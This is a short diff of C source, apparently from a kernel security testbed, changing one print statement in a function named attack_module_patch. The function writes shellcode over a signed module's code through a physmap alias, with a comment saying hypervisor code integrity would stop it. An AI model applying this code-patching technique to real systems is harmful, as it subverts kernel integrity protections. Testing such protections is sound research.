@@ -248,7 +248,7 @@ static int attack_module_patch(const char *args)
         attack_error("hello_hook not found in the module area");
     long before = kcall(hook, 20);
     u_printf("  attack: hello.ko loaded (signed, verified); hello_hook at 0x%lx: hook(20) = %ld; patching it through "
-             "the physmap alias 0x%lx\n", hook, before, PHYSMAP_BASE + hook);
+             "the physmap alias 0x%lx\n", hook, before, (u64)(PHYSMAP_BASE + hook));
     const u64 *sc = (const u64 *)uk_shellcode;
     kwrite(PHYSMAP_BASE + hook, sc[0]); /* with HVCI: GpaIntercept (write) on the module text: #GP, killed */
     kwrite(PHYSMAP_BASE + hook + 8, sc[1]);
